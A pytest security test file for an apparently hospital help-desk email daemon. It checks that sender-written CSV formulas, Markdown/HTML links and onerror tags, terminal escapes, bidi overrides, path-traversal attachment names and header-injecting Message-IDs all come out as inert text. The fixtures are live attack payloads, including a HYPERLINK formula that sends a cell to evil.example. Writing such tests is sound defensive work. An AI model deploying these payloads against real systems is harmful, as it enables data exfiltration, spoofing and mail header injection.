"""Nothing a sender wrote acts on a reader (issue 24, part 5). Each attack is sent through the
receiver as an attacker would send it, and what our own people get is checked: the cells a
spreadsheet reads from `report meeting --format csv`, the meeting report's Markdown as a
CommonMark renderer shows it, the bytes `cases list`, `cases show` and `cases attachments` write
to a terminal, the files `cases attachments --save` writes, and the threading headers of our
acknowledgement."""

from __future__ import annotations

import csv
import io
import json
import os
from email.message import EmailMessage
from email.policy import SMTP
from email.utils import formatdate

import pytest
from conftest import incident_mail, module_daemon, relay_config, wait_until
from markdown_it import MarkdownIt

REPORTER = "kari.nordmann@sykehus.example"


@pytest.fixture(scope="module")
def relay(module_relay):
    return module_relay


@pytest.fixture(scope="module")
def daemon(relay, tmp_path_factory):
    yield from module_daemon(tmp_path_factory, "reader", relay_config(relay))


def report(daemon, subject: str, service: str = "XCA-gateway", body_extra: str = "", attachments=()) -> dict:
    """A report with SUBJECT whose `Sted:` line says SERVICE; the case it opened."""
    body = (f"Hei,\n\nOppslag i pasientjournal feiler siden 08:15.{body_extra}\n\nAlvorlighetsgrad: C\n"
            f"Sted: {service}\nKontakt: Kari Nordmann, 55 55 55 55\n\nHilsen Kari\n")
    daemon.send(incident_mail(subject=subject, body=body, sender=REPORTER, attachments=attachments),
                mail_from=REPORTER)
    return wait_until(lambda: next((c for c in daemon.cases() if c["subject"] == subject), None), 20,
                      what=f"the case of {subject!r}")


# -- the meeting report as CSV -------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"klikk")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "  =1+1", "\uff1dHYPERLINK(\"http://evil.example\")"]


def test_no_csv_cell_a_sender_wrote_is_a_formula(daemon):
    cases = {service: report(daemon, f"Feil i kjernejournal ({n})", service) for n, service in enumerate(FORMULAS)}
    formula_subject = report(daemon, "=HYPERLINK(\"http://evil.example\",\"Se saken\")")
    rows = {r["case"]: r for r in csv.DictReader(io.StringIO(
        daemon.cli("report", "meeting", "--format", "csv", "--subjects").stdout.decode("utf-8")))}
    for service, case in cases.items():
        assert daemon.case(case["id"])["service"] == service.strip()  # the attack reached the store
        cell = rows[case["id"]]["service"]
        assert cell == "'" + service.strip(), cell  # text to a spreadsheet, shown as written
    assert rows[formula_subject["id"]]["subject"] == "'" + formula_subject["subject"]
    for row in rows.values():  # whatever a sender wrote, no cell of ours opens a formula
        for cell in row.values():
            assert not cell.lstrip().startswith(("=", "+", "@", "\t", "\r", "\uff1d")), cell
            assert not cell.lstrip().startswith("-") or cell.lstrip("-").replace(".", "").isdigit(), cell


# -- the meeting report as Markdown --------------------------------------------------------------

MARKUP = {"link": "[Logg inn her](javascript:alert(document.cookie))",
          "image": "![](http://remote.example/pixel.png?case=1)",
          "html": '<img src="http://remote.example/x.png" onerror="alert(1)">',
          "autolink": "<http://evil.example/logg-inn>",
          "reference": "[klikk][1] [1]: http://evil.example/"}


def test_the_markdown_report_shows_a_senders_markup_as_text(daemon):
    cases = {kind: report(daemon, f"Feil i e-resept ({kind}) {text}", text) for kind, text in MARKUP.items()}
    md = daemon.cli("report", "meeting", "--format", "md", "--subjects").stdout.decode("utf-8")
    renderer = MarkdownIt("commonmark").enable("table")  # raw HTML on, as CommonMark has it
    tokens = renderer.parse(md)
    kinds = {t.type for t in tokens} | {c.type for t in tokens for c in (t.children or [])}
    assert not kinds & {"link_open", "image", "html_inline", "html_block"}, kinds
    page = renderer.render(md)
    assert "<a " not in page and "<img" not in page and 'href="javascript' not in page
    cells = ["".join(c.content for c in t.children or [] if c.type in ("text", "text_special"))
             for t in tokens if t.type == "inline"]
    for kind, text in MARKUP.items():  # each shows as the sender wrote it: the service's cell, the subject's
        assert text in cells, kind
        assert f"Feil i e-resept ({kind}) {text}" in cells, kind
        assert cases[kind]["id"] in cells


# -- the command line ----------------------------------------------------------------------------

TERMINAL = ("\x1b]8;;http://evil.example/\x1b\\klikk\x1b]8;;\x1b\\ \x1b[2J\x1b[31mALARM\x9b0m "
            "\u202eexe.txt\u2066x\u2069")
RAW_CONTROLS = [b"\x1b", "\x9b".encode(), "\u202e".encode(), "\u2066".encode(), "\u2069".encode()]


def test_the_command_line_shows_a_senders_escapes_as_text(daemon):
    subject = f"Feil {TERMINAL}"
    case = report(daemon, subject, body_extra=f"\nFeilmelding: {TERMINAL}")
    assert daemon.case(case["id"])["subject"] == subject  # the attack reached the store
    listed = daemon.cli("cases", "list").stdout
    shown = daemon.cli("cases", "show", case["id"]).stdout
    for raw in RAW_CONTROLS:
        assert raw not in listed and raw not in shown, raw
    assert "Feil " + r"\x1b]8;;http://evil.example/\x1b\klikk" in listed.decode("utf-8")  # cut at 60
    shown = shown.decode("utf-8")
    escaped = (r"\x1b]8;;http://evil.example/\x1b\klikk\x1b]8;;\x1b\ \x1b[2J\x1b[31mALARM\x9b0m "
               r"\u202eexe.txt\u2066x\u2069")
    assert f"emne: Feil {escaped}" in shown  # the case's subject
    assert f": Feil {escaped}" in shown.split("tidslinje:")[1]  # the message's subject
    assert f"| Feilmelding: {escaped}" in shown  # and its text
    shown_json = daemon.cli("cases", "show", case["id"], "--json").stdout
    listed_json = daemon.cli("cases", "list", "--json").stdout
    exported = daemon.cli("cases", "export", case["id"], "--format", "json").stdout
    for out in (shown_json, listed_json, exported):
        for raw in RAW_CONTROLS[1:]:  # json.dumps writes C0 as \u001b itself; C1 and bidi are ours to escape
            assert raw not in out, raw
    # a script that reads the JSON gets the very value the sender wrote
    assert json.loads(shown_json)["subject"] == subject and json.loads(exported)["case"]["subject"] == subject
    assert next(c for c in json.loads(listed_json) if c["id"] == case["id"])["subject"] == subject

def test_the_case_export_shows_a_senders_markup_and_message_id_as_text(daemon):
    subject = "Feil [Logg inn](javascript:alert(1)) <img src=http://remote.example/x.png>"
    sender = "eksport@sykehus.example"
    raw = (f"From: Kari <{sender}>\r\nTo: brukerstotte@sykehus.example\r\nSubject: {subject}\r\n"
           f"Message-ID: <img src=http://remote.example/y.png onerror=alert(1)>\r\nDate: {formatdate()}\r\n\r\n"
           "Oppslag feiler.\r\n\r\nSted: XCA-gateway\r\n").encode()
    daemon.send(raw, mail_from=sender)
    case = wait_until(lambda: next((c for c in daemon.cases() if c["subject"] == subject), None), 20,
                      what="the case")
    md = daemon.cli("cases", "export", case["id"]).stdout.decode("utf-8")
    renderer = MarkdownIt("commonmark").enable("table")
    tokens = renderer.parse(md)
    kinds = {t.type for t in tokens} | {c.type for t in tokens for c in (t.children or [])}
    assert not kinds & {"link_open", "image", "html_inline", "html_block"}, kinds
    heading = next(t for t in tokens if t.type == "inline")
    assert "".join(c.content for c in heading.children) == f"{case['id']}: {subject}"
    assert "<img src=http://remote.example/y.png onerror=alert(1)>" in md.replace("\\", "")  # the mail's id, as text
    page = renderer.render(md)
    assert "<a " not in page and "<img" not in page


def attachment_mail(subject: str, attachments: list[tuple[str, bytes]]) -> bytes:
    msg = EmailMessage()
    msg["From"] = f"Kari Nordmann <{REPORTER}>"
    msg["To"] = "brukerstotte@sykehus.example"
    msg["Subject"] = subject
    msg["Date"] = formatdate(localtime=True)
    msg.set_content("Hei,\n\nSe vedleggene.\n\nAlvorlighetsgrad: C\nSted: XCA-gateway\n")
    for name, data in attachments:
        msg.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
    return msg.as_bytes(policy=SMTP)


LONG = "ø" * 150 + ".log"  # 150 characters, 304 bytes of UTF-8
NAMES = [("\u202etxt.exe", b"MZ not really\n"), ("a" * 300 + ".pdf", b"%PDF-1.4 long name\n"),
         (LONG, b"long in bytes\n"), ("../../.bashrc", b"echo pwned\n"), ("\x1b[2Jskjerm.txt", b"skjerm\n"),
         ("siste.txt", b"the one after\n")]


def attachments_case(daemon, subject: str) -> dict:
    daemon.send(attachment_mail(subject, NAMES), mail_from=REPORTER)
    return wait_until(lambda: next((c for c in daemon.cases() if c["subject"] == subject), None), 20,
                      what="the case with attachments")


def test_cases_attachments_shows_a_names_override_as_text(daemon):
    case = attachments_case(daemon, "Vedlegg med lure navn")
    out = daemon.cli("cases", "attachments", case["id"]).stdout
    for raw in RAW_CONTROLS:
        assert raw not in out, raw
    text = out.decode("utf-8")
    assert r"\u202etxt.exe" in text and r"\x1b[2Jskjerm.txt" in text and "siste.txt" in text


def test_every_attachment_is_saved_under_a_name_the_file_system_takes(daemon, tmp_path):
    case = attachments_case(daemon, "Vedlegg med lange navn")
    target = tmp_path / "ut"
    result = daemon.cli("cases", "attachments", case["id"], "--save", str(target), "--json")
    listed = json.loads(result.stdout)
    assert result.returncode == 0 and len(listed) == len(NAMES)
    saved = {path.read_bytes(): path.name for path in target.iterdir()}
    assert set(saved) == {data for _, data in NAMES}  # every one, the one after the long names too
    for data, name in saved.items():
        assert len(name.encode("utf-8")) <= os.pathconf(target, "PC_NAME_MAX"), name
        assert not name.startswith(".") and "/" not in name and name.isprintable(), name
    assert saved[b"%PDF-1.4 long name\n"].endswith("aaaa.pdf") and saved[b"long in bytes\n"].endswith("øø.log")
    assert saved[b"MZ not really\n"].endswith("-txt.exe") and "\u202e" not in saved[b"MZ not really\n"]
    assert saved[b"echo pwned\n"].endswith("-bashrc")


def test_one_attachment_that_cannot_be_saved_does_not_stop_the_rest(daemon, tmp_path):
    case = attachments_case(daemon, "Vedlegg der ett ikke kan lagres")
    target = tmp_path / "ut"
    listed = daemon.json("cases", "attachments", case["id"])
    first = next(e for e in listed if e["filename"] == "\u202etxt.exe")
    (target / f"{first['id']}-txt.exe").mkdir(parents=True)  # where the first one would be written
    result = daemon.cli("cases", "attachments", case["id"], "--save", str(target), check=False)
    assert result.returncode == 1
    err = result.stderr.decode("utf-8")
    assert f"#{first['id']}: ikke lagret" in err and "1 of 6 attachment(s) not saved" in err
    saved = {path.read_bytes() for path in target.iterdir() if path.is_file()}
    assert saved == {data for _, data in NAMES[1:]}


# -- threading headers -----------------------------------------------------------------------------

ENCODED_IDS = ["<=?utf-8?q?x=0D=0ABcc=3A_victim=40evil.example?=@evil.example>",  # CR LF Bcc: when decoded
               "<=?utf-8?q?svar.1?=@evil.example>",  # decodes to another id
               "<a.=?utf-8?q?=0D=0A?=.b@evil.example>"]


@pytest.mark.parametrize("message_id", ENCODED_IDS)
def test_a_message_id_holding_an_encoded_word_is_left_out_of_our_threading(daemon, relay, message_id):
    sender = f"tr{ENCODED_IDS.index(message_id)}@sykehus.example"
    raw = (f"From: Kari <{sender}>\r\nTo: brukerstotte@sykehus.example\r\nSubject: Feil med id "
           f"{ENCODED_IDS.index(message_id)}\r\nMessage-ID: {message_id}\r\nIn-Reply-To: {message_id}\r\n"
           f"References: <tidligere@sykehus.example>\r\n {message_id}\r\nDate: {formatdate()}\r\n\r\n"
           "Oppslag feiler.\r\n\r\nSted: XCA-gateway\r\n").encode()
    daemon.send(raw, mail_from=sender)
    ack = wait_until(lambda: relay.to(sender), 20, what="acknowledgement")[0]
    head = ack["raw"].split(b"\r\n\r\n", 1)[0]
    threading = [line for line in head.replace(b"\r\n ", b" ").split(b"\r\n")
                 if line.lower().startswith((b"in-reply-to:", b"references:"))]
    assert threading and not any(b"=?" in line for line in threading) and b"evil" not in head
    assert b"Bcc" not in head and ack["rcpt_tos"] == [sender]
    assert "In-Reply-To" not in ack["msg"]
    assert ack["msg"]["References"] == "<tidligere@sykehus.example>"
